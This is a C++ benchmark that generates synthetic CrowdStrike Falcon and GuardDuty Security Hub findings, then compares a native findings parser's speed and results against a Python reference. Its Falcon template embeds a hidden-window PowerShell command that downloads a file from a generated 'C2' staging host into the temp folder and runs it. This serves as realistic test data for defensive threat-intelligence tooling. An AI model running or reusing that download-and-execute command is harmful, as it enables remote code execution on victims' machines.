// Reading findings against bench/findings_reference.py (Python, orjson): the same bytes, one run, CPU time of parsing
// and extracting only. Exits 1 when the two disagree about what was found.
//
// Usage: bench_findings [--python PATH] [--findings N]

#include <fmt/format.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <optional>
#include <random>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "findings/finding.hpp"
#include "measure.hpp"
#include "os/process.hpp"

namespace {

using intelwall::bench::cpu_seconds;
using intelwall::findings::ReadReport;

constexpr double goal = 5.0;
constexpr int rounds = 3;

/// Findings as the Falcon gateway and GuardDuty leave them in Security Hub: 3 to 5 KB, most of it nobody's domain.
class Generator {
 public:
  std::string falcon(std::size_t n) {
    const bool domain = pick(4) != 0;
    std::string fields;
    for (int i = 0; i < 3; ++i) {
      for (const auto* part : {"Tactic", "TacticID", "Technique", "TechniqueID", "PatternID"}) {
        fields += fmt::format(R"(,"{}MitreAttack/{}/{}":"{}{}")", prefix, i, part, part, pick(1000));
      }
    }
    for (const auto* process : {"", "Parent", "GrandParent"}) {
      fields += fmt::format(
          R"(,"{0}{1}ImageFileName":"powershell.exe","{0}{1}CommandLine":"\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -c \"iwr {2} -OutFile $env:TEMP\\{3}.tmp; & $env:TEMP\\{3}.tmp\"")",
          prefix, process, pick(3) == 0 ? "http://" + name() + "/stage/" + hex(16) : "$u", hex(8));
    }
    return fmt::format(
        R"({{"SchemaVersion":"2018-10-08","Id":"crowdstrike:crowdstrike-falcon:ldt:{0}:{1}","ProductArn":"arn:aws:securityhub:us-east-1:517716713836:product/crowdstrike/crowdstrike-falcon","ProductName":"CrowdStrike Falcon","CompanyName":"CrowdStrike","Region":"us-east-1","AwsAccountId":"111122223333","GeneratorId":"Falcon Host","Types":["Namespace: TTPs","Category: Command and Control","Classifier: Application Layer Protocol"],"CreatedAt":"2026-11-24T14:03:04.123Z","UpdatedAt":"2026-11-24T14:05:00.456Z","RecordState":"ACTIVE","WorkflowState":"NEW","Workflow":{{"Status":"NEW"}},"Severity":{{"Label":"HIGH","Original":"High","Normalized":70}},"Title":"Falcon Alert. Instance: i-0{2}","Description":"A process attempted to communicate with {3}. Adversaries may use an OSI application layer protocol to avoid detection by blending in with existing traffic; see the process tree of powershell.exe for what started it.| AWS Account: 111122223333","SourceUrl":"https://falcon.crowdstrike.com/activity-v2/detections/{1}","Resources":[{{"Type":"AwsEc2Instance","Id":"arn:aws:ec2:us-east-1:111122223333:instance/i-0{2}","Partition":"aws","Region":"us-east-1","Tags":{{"Name":"web-{4}","team":"payments"}},"Details":{{"AwsEc2Instance":{{"Type":"m6i.large","ImageId":"ami-0{2}","IpV4Addresses":["10.0.1.17","203.0.113.4"],"VpcId":"vpc-0{2}","SubnetId":"subnet-0{2}","LaunchedAt":"2026-10-02T08:00:00Z"}}}}}}],"Process":{{"Name":"powershell.exe","Path":"\\Device\\HarddiskVolume2\\Windows\\System32\\powershell.exe"}},"Network":{{"Direction":"OUT","Protocol":"TCP","SourceIpV4":"10.0.1.17","SourcePort":49712,"DestinationIpV4":"198.51.100.9","DestinationPort":443}},"FindingProviderFields":{{"Severity":{{"Label":"HIGH","Original":"High"}},"Types":["Namespace: TTPs"]}},"ProductFields":{{"{5}cid":"{1}","{5}FigVersion":"3.2.1","{5}FileName":"powershell.exe","{5}FilePath":"\\Device\\HarddiskVolume2\\Windows\\System32\\WindowsPowerShell\\v1.0","{5}SHA256String":"{1}{1}","{5}SHA1String":"{1}","{5}MD5String":"{1}","{5}IOCType":"{6}","{5}IOCValue":"{7}","{5}AssociatedFile":"\\Device\\HarddiskVolume2\\Users\\bob\\AppData\\Local\\Temp\\setup.exe","{5}PatternDispositionDescription":"Prevention, process was blocked from execution."{8},"aws/securityhub/FindingId":"arn:aws:securityhub:us-east-1:517716713836:product/crowdstrike/crowdstrike-falcon/crowdstrike:crowdstrike-falcon:ldt:{0}","aws/securityhub/ProductName":"CrowdStrike Falcon","aws/securityhub/CompanyName":"CrowdStrike"}}}})",
        n, hex(32), hex(16), pick(3) == 0 ? name() : "a remote host", pick(100), prefix,
        domain ? "domain" : "hash_sha256", domain ? name() : hex(64), fields);
  }

  std::string guardduty(std::size_t n) {
    const auto domain = name();
    std::string fields;
    for (int i = 0; i < 12; ++i) {
      fields += fmt::format(R"(,"aws/guardduty/service/evidence/threatIntelligenceDetails.0_/threatNames.{}_":"{}")", i,
                            hex(24));
    }
    return fmt::format(
        R"({{"SchemaVersion":"2018-10-08","Id":"arn:aws:guardduty:us-east-1:111122223333:detector/{1}/finding/{0}","ProductArn":"arn:aws:securityhub:us-east-1::product/aws/guardduty","ProductName":"GuardDuty","CompanyName":"Amazon","Region":"us-east-1","AwsAccountId":"111122223333","GeneratorId":"arn:aws:guardduty:us-east-1:111122223333:detector/{1}","Types":["TTPs/Command and Control/Backdoor:EC2-C&CActivity.B!DNS"],"FirstObservedAt":"2026-11-24T14:00:00Z","LastObservedAt":"2026-11-24T14:05:00Z","CreatedAt":"2026-11-24T14:03:04.123Z","UpdatedAt":"2026-11-24T14:05:00.456Z","Severity":{{"Product":8,"Label":"HIGH","Normalized":70}},"Title":"The EC2 instance i-0{2} is querying a domain name associated with a known Command & Control server.","Description":"The EC2 instance i-0{2} is querying a domain name that is associated with a known Command & Control server. Its role is instance-role.{4}","SourceUrl":"https://us-east-1.console.aws.amazon.com/guardduty/home?region=us-east-1#/findings?macros=current&fId={1}","Resources":[{{"Type":"AwsEc2Instance","Id":"arn:aws:ec2:us-east-1:111122223333:instance/i-0{2}","Partition":"aws","Region":"us-east-1","Tags":{{"Name":"web"}},"Details":{{"AwsEc2Instance":{{"Type":"m6i.large","ImageId":"ami-0{2}","IpV4Addresses":["10.0.1.17"],"VpcId":"vpc-0{2}","SubnetId":"subnet-0{2}","IamInstanceProfileArn":"arn:aws:iam::111122223333:instance-profile/web","LaunchedAt":"2026-10-02T08:00:00Z"}}}}}}],"Action":{{"ActionType":"DNS_REQUEST","DnsRequestAction":{{"Domain":"{3}","Protocol":"UDP","Blocked":false}}}},"RecordState":"ACTIVE","WorkflowState":"NEW","Workflow":{{"Status":"NEW"}},"ProductFields":{{"aws/guardduty/service/action/actionType":"DNS_REQUEST","aws/guardduty/service/action/dnsRequestAction/domain":"{3}","aws/guardduty/service/action/dnsRequestAction/protocol":"UDP","aws/guardduty/service/action/dnsRequestAction/blocked":"false","aws/guardduty/service/archived":"false","aws/guardduty/service/count":"15","aws/guardduty/service/detectorId":"{1}","aws/guardduty/service/eventFirstSeen":"2026-11-24T14:00:00.000Z","aws/guardduty/service/eventLastSeen":"2026-11-24T14:05:00.000Z","aws/guardduty/service/resourceRole":"TARGET","aws/guardduty/service/serviceName":"guardduty","aws/guardduty/service/additionalInfo/threatListName":"CrowdStrike","aws/guardduty/service/additionalInfo/value":"{{\"threatListName\":\"CrowdStrike\"}}","aws/guardduty/service/additionalInfo/type":"default"{5},"aws/securityhub/FindingId":"arn:aws:securityhub:us-east-1::product/aws/guardduty/arn:aws:guardduty:us-east-1:111122223333:detector/{1}/finding/{0}","aws/securityhub/ProductName":"GuardDuty","aws/securityhub/CompanyName":"Amazon"}}}})",
        n, hex(32), hex(16), domain, pick(5) == 0 ? " Also seen: www." + name() : "", fields);
  }

  std::size_t pick(std::size_t below) { return std::uniform_int_distribution<std::size_t>(0, below - 1)(random_); }

 private:
  static constexpr std::string_view prefix = "crowdstrike/crowdstrike-falcon/";

  std::string hex(std::size_t digits) {
    std::string text;
    while (text.size() < digits) text += "0123456789abcdef"[pick(16)];
    return text;
  }
  std::string name() {
    static constexpr const char* endings[] = {"com", "net", "org", "co.uk", "info", "ru", "xyz", "top"};
    return fmt::format("{}{}.{}", pick(2) == 0 ? "C2-" + hex(4) + "." : "", hex(6 + pick(12)) + "x", endings[pick(8)]);
  }

  std::mt19937_64 random_{20'261'124};
};

std::set<std::string> triples(const ReadReport& report) {
  std::set<std::string> all;
  for (const auto& finding : report.findings) {
    for (const auto& candidate : finding.candidates) {
      if (!candidate.domain) continue;
      all.insert(
          fmt::format("{}\t{}\t{}", finding.id, candidate.domain->name.text(), to_string(candidate.evidence.grade)));
    }
  }
  return all;
}

std::set<std::string> lines_of(const std::filesystem::path& path) {
  std::ifstream in(path);
  std::set<std::string> all;
  for (std::string line; std::getline(in, line);) all.insert(line);
  return all;
}

/// CPU seconds that the reference reports, or nothing when it did not run.
std::optional<double> run_reference(const std::string& python, const std::filesystem::path& input,
                                    const std::filesystem::path& dump) {
  const auto script = std::string(INTELWALL_SOURCE_DIR) + "/bench/findings_reference.py";
  const auto result = intelwall::os::run({python, script, input.string(), "--dump", dump.string()});
  if (!result || result->exit_code != 0) {
    fmt::print(stderr, "the reference did not run: {}\n(give --python one with orjson and idna)\n",
               result ? result->err : result.error().to_text());
    return std::nullopt;
  }
  constexpr std::string_view key = "\"cpu_seconds\": ";
  const auto at = result->out.find(key);
  if (at == std::string::npos) return std::nullopt;
  return std::strtod(result->out.c_str() + at + key.size(), nullptr);
}

bool compare(std::string_view title, const std::string& bytes, const std::string& python,
             const std::filesystem::path& folder) {
  const auto input = folder / "findings.json";
  const auto dump = folder / "reference.tsv";
  std::ofstream(input, std::ios::binary) << bytes;
  double ours = 1e9;
  double theirs = 1e9;
  ReadReport report;
  for (int round = 0; round < rounds; ++round) {
    const auto start = cpu_seconds();
    report = intelwall::findings::read_findings(bytes);
    ours = std::min(ours, cpu_seconds() - start);
    const auto reference = run_reference(python, input, dump);
    if (!reference) return false;
    theirs = std::min(theirs, *reference);
  }
  const auto found = triples(report);
  const auto expected = lines_of(dump);
  const auto megabytes = static_cast<double>(bytes.size()) / 1e6;
  const auto ratio = theirs / ours;
  fmt::print("findings/{}: {:.1f} MB, {} findings, {} candidates, {} errors\n", title, megabytes,
             report.findings.size(), found.size(), report.errors.size());
  fmt::print(
      "  intelwall {:.3f} CPU s ({:.0f} MB/s), Python with orjson {:.3f} CPU s ({:.0f} MB/s): {:.1f} times (goal "
      "{:.0f}): {}\n",
      ours, megabytes / ours, theirs, megabytes / theirs, ratio, goal, ratio >= goal ? "ok" : "BELOW THE GOAL");
  if (found == expected) return true;
  std::vector<std::string> different;
  std::ranges::set_symmetric_difference(found, expected, std::back_inserter(different));
  fmt::print(stderr, "  the two disagree about {} candidates, for example {}\n", different.size(), different.front());
  return false;
}

}  // namespace

int main(int argc, char** argv) {
  std::string python = fmt::format("{}/build/venv/bin/python", INTELWALL_SOURCE_DIR);
  std::size_t count = 12'000;
  for (int i = 1; i + 1 < argc; i += 2) {
    if (std::string_view(argv[i]) == "--python") python = argv[i + 1];
    if (std::string_view(argv[i]) == "--findings") count = std::strtoull(argv[i + 1], nullptr, 10);
  }
  Generator generator;
  std::string lines;
  std::string list = "{\"Findings\":[";
  for (std::size_t n = 0; n < count; ++n) {
    const auto finding = generator.pick(2) == 0 ? generator.falcon(n) : generator.guardduty(n);
    lines += finding + "\n";
    list += (n == 0 ? "" : ",") + finding;
  }
  list += "]}";
  auto pattern = (std::filesystem::temp_directory_path() / "intelwall-bench-XXXXXX").string();
  if (mkdtemp(pattern.data()) == nullptr) return 1;
  const bool same = compare("json lines", lines, python, pattern) & compare("one list", list, python, pattern);
  std::filesystem::remove_all(pattern);
  return same ? 0 : 1;
}
